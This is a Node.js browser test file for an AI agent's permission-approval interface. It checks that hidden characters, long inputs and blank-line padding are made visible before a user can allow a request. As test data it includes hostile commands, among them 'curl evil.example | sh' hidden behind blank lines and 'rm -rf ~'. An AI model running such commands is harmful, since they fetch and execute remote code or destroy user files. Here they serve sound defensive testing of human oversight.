// Permission requests with a real gateway and inputs that are hard to show, from the agent's line to the
// answer.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { REQUESTS } from "./request-agent.mjs";
import { gatewayBinary, startGateway } from "./gateway.mjs";
import { withReport, answerText, waitForOutcome, launch, newUser, readToEnd, sendMessage } from "./harness.mjs";

const AGENT = fileURLToPath(new URL("request-agent.mjs", import.meta.url));
const skip = gatewayBinary() ? false : "no gateway to start: SWITCHBOARD_BINARY is not set";

let gateway;
let harness;
before(async () => {
  if (skip) return;
  gateway = await startGateway({ agent: `${process.execPath} ${AGENT}` });
  harness = { get base() { return gateway.base; }, get token() { return gateway.token; }, browser: await launch() };
});
after(async () => {
  await harness?.browser.close();
  await gateway?.end();
});

/** A test of a user's page. */
function pageTest(name, act) {
  test(name, { timeout: 120_000, skip }, async () => {
    const user = await newUser(harness);
    try {
      await withReport(user, () => act(user));
    } finally {
      await user.context.close();
    }
  });
}

/** A test of one request, which it allows at the end. `turns`: how many turns `check` finishes before the turn of that request. */
function browserTest(name, requestName, check, turns = 0) {
  pageTest(name, async (user) => {
    const page = await user.open();
    // The gateway names the agent's program and its sandbox.
    assert.match(await page.locator(".agent-sign").innerText(), /^node\b.*sandbox: (off|shield)$/s);
    const turn = await sendMessage(page, `ask ${requestName}`);
    const dock = page.locator(".dock");
    await dock.waitFor();
    const allow = page.getByRole("button", { name: "Allow once" });
    if (process.env.SCREENSHOTS) await page.screenshot({ path: `${process.env.SCREENSHOTS}/${requestName}.png` });
    await check({ page, turn, dock, allow });
    if (process.env.SCREENSHOTS) await page.screenshot({ path: `${process.env.SCREENSHOTS}/${requestName}-seen.png` });
    await page.locator(".dock button.primary:enabled").waitFor();
    await allow.click();
    const allowedTurn = turns === 0 ? turn : page.locator(".turn").nth(turns);
    await waitForOutcome(allowedTurn);
    assert.equal(await answerText(allowedTurn), "granted as asked");
    if (process.env.SCREENSHOTS) await page.screenshot({ path: `${process.env.SCREENSHOTS}/${requestName}-done.png` });
    assert.deepEqual(user.recorded.console, []);
  });
}

const scrollToEnd = (dock) => dock.locator(".dock-input").press("End");
const waitUntilArmed = (page) => page.locator(".dock").getByRole("button", { name: "Deny", exact: true }).and(page.locator(":enabled")).waitFor();

for (const name of ["deep", "doubled"]) {
  browserTest(`an input that is not exact as JSON is shown whole, and exactly that text is granted (${name})`, name, async ({ dock }) => {
    assert.equal(await dock.locator("pre").innerText(), REQUESTS[name].input);
    await scrollToEnd(dock);
  });
}

browserTest("when an agent repeats a request id in a later turn, the second request can be answered", "doubled", async ({ page, turn, dock, allow }) => {
  await scrollToEnd(dock);
  await page.locator(".dock button.primary:enabled").waitFor();
  await allow.click();
  await waitForOutcome(turn);
  // The second request has the id r-1, too.
  const second = await sendMessage(page, "ask blank");
  await page.locator(".dock button.primary:enabled").waitFor();
  await allow.click();
  await waitForOutcome(second);
  assert.equal(await answerText(second), "granted as asked");
  await sendMessage(page, "ask doubled");
  await dock.waitFor();
  await scrollToEnd(dock);
}, 2);

browserTest("a second input under an open id is refused with a notice, and the first input is granted", "twice", async ({ turn, dock }) => {
  await turn.locator(".notice[data-code=request_refused]").waitFor();
  assert.equal(await dock.locator("pre").innerText(), "ls");
});

/** The text for which marks such as `<U+202E>` and `60 blank lines` stand. */
function unmarked(parts) {
  const asGap = ({ text, isMark }) => (isMark ? /^([\d,]+) blank lines?$/.exec(text) : null);
  return parts.map((part, index) => {
    const { text, isMark } = part;
    // A count of blank lines stands in a line of its own.
    if (!isMark) return index > 0 && asGap(parts[index - 1]) ? text.slice(1) : text;
    const gap = asGap(part);
    if (gap) return "\n".repeat(Number(gap[1].replaceAll(",", "")));
    return [...text.matchAll(/<U\+([0-9A-F]+)(?: ×(\d+))?>/g)].map(([, point, times]) => String.fromCodePoint(parseInt(point, 16)).repeat(times ?? 1)).join("");
  }).join("");
}

/** The texts below an element, and which of them are marks. */
const partsOf = (locator) => locator.evaluate((element) => {
  const walker = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
  const parts = [];
  while (walker.nextNode()) parts.push({ text: walker.currentNode.data, isMark: walker.currentNode.parentElement.matches(".odd-hidden, .odd-gap") });
  return parts;
});

for (const name of ["bidi", "blank lines"]) {
  browserTest(`what is shown of a request is what the agent wrote (${name})`, name, async ({ dock }) => {
    const { input, description } = REQUESTS[name];
    const parts = await partsOf(dock.locator("pre"));
    assert.ok(parts.some((part) => part.isMark));
    assert.ok(!parts.some((part) => /[\u200b-\u200f\u202a-\u202e\u2066-\u2069]|\n{4}/.test(part.text)), "nothing of it is hidden");
    assert.equal(unmarked(parts), JSON.parse(input).command);
    if (description) assert.equal(unmarked(await partsOf(dock.locator("#dock-why"))), description);
    await scrollToEnd(dock);
  });
}

pageTest("a message and its answer are shown as they were written, with bidirectional characters and blank lines", async (user) => {
  const page = await user.open();
  const code = "safe \u202e;x fr- mr\u202c # \u2066cat\u2069\n\n\n\n\n\n  שלום (a) מ\n\tend";
  const text = `first \u202eline\u202c\n\n\n\n\nשלום (a)\n\n\`\`\`\n${code}\n\`\`\``;
  const turn = await sendMessage(page, text);
  await waitForOutcome(turn);
  for (const reload of [false, true]) {
    if (reload) await page.reload();
    await turn.locator(".answer pre").waitFor();
    assert.equal(await turn.locator(".bubble").textContent(), text);
    assert.equal(await turn.locator(".answer pre code").textContent(), code);
    assert.deepEqual(await turn.locator(".answer .markdown > p").allTextContents(), ["first \u202eline\u202c", "שלום (a)"]);
  }
});

pageTest("a form of an MCP server is answered in its formats, without the fields left out", async (user) => {
  const page = await user.open();
  const turn = await sendMessage(page, "ask form");
  const dock = page.locator(".dock");
  await dock.getByText("Delete ticket 12?").first().waitFor();
  assert.equal(await dock.getByText("(optional)").count(), 2);
  const send = page.getByRole("button", { name: "Answer", exact: true });
  await dock.getByLabel("true").check();
  await dock.getByPlaceholder("A whole number").fill("many");
  await dock.locator(".dock-input").press("End");
  await dock.getByRole("button", { name: "Decline" }).and(page.locator(":enabled")).waitFor();
  assert.ok(await send.isDisabled());
  await dock.getByPlaceholder("A whole number").fill("3");
  await page.locator(".dock button.primary:enabled").waitFor();
  await send.click();
  await waitForOutcome(turn);
  assert.deepEqual(JSON.parse(await answerText(turn)), { action: "accept", content: { confirm: true, copies: 3 } });
});

pageTest("a form is declined without an answer", async (user) => {
  const page = await user.open();
  const turn = await sendMessage(page, "ask form");
  const dock = page.locator(".dock");
  await dock.getByText("An answer is sent to the agent and accepts what is asked.").waitFor();
  await dock.getByRole("button", { name: "Decline" }).and(page.locator(":enabled")).click();
  await waitForOutcome(turn);
  assert.deepEqual(JSON.parse(await answerText(turn)), { action: "decline" });
});

pageTest("a request ends with its agent's process, and cannot be answered any more", async (user) => {
  const page = await user.open();
  const turn = await sendMessage(page, "ask mortal");
  // The process exits, which ends the turn, which ends the request.
  await turn.locator("[data-resolution=turn_ended], [data-resolution=withdrawn]").waitFor();
  assert.equal(await waitForOutcome(turn), "interrupted");
  assert.equal(await page.locator(".dock").count(), 0);
  assert.equal(await page.getByRole("button", { name: "Allow once" }).count(), 0);
});

browserTest("a second command behind blank lines is visible", "blank", async ({ dock }) => {
  await dock.getByText("60 blank lines").waitFor();
  assert.match(await dock.locator("pre").innerText(), /curl evil\.example \| sh/);
});

browserTest("an input of 300 KiB cannot be allowed before its end was on the screen", "long", async ({ page, dock, allow }) => {
  await waitUntilArmed(page);
  assert.ok(await allow.isDisabled());
  await dock.getByRole("button", { name: "Show all of it" }).click();
  await dock.locator(".warning button").waitFor({ state: "detached" });
  await waitUntilArmed(page);
  assert.ok(await allow.isDisabled(), "the input is loaded but not seen");
  const text = (await readToEnd(dock)).join("");
  for (const part of ["echo line 0 of many", "echo line 8999 of many", "90000 spaces", "rm -rf ~"]) assert.ok(text.replaceAll(",", "").includes(part), part);
});

browserTest("a long description leaves the command and the buttons on the screen", "wordy", async ({ page, dock, allow }) => {
  for (const each of [allow, dock.locator("pre")]) {
    assert.ok(await each.evaluate((element) => element.getBoundingClientRect().bottom <= innerHeight && element.getBoundingClientRect().top >= 0));
  }
  await dock.getByText("The description was cut").waitFor();
  assert.match(await dock.innerText(), /<U\+202E>/);
  await waitUntilArmed(page);
});

browserTest("hidden characters are marked in a tool's name", "named", async ({ dock }) => {
  const title = await dock.locator("h2").innerText();
  for (const each of ["<U+202E>", "<U+200B>", "<U+001B>[2J"]) assert.ok(title.includes(each), title);
});

pageTest("stopping a turn removes its request at once, even if the agent ignores the stop", async (user) => {
  const page = await user.open();
  const turn = await sendMessage(page, "ask named");
  await page.locator(".dock").waitFor();
  await page.getByRole("button", { name: "Stop the answer" }).click();
  await turn.getByText("Stopping…").waitFor();
  assert.equal(await turn.getAttribute("data-phase"), "running", "the turn runs until the gateway ends the agent");
  assert.equal(await page.locator(".dock").count(), 0);
  assert.ok(!(await turn.innerText()).includes("waits for"), await turn.innerText());
  assert.equal(await waitForOutcome(turn), "cancelled");
});
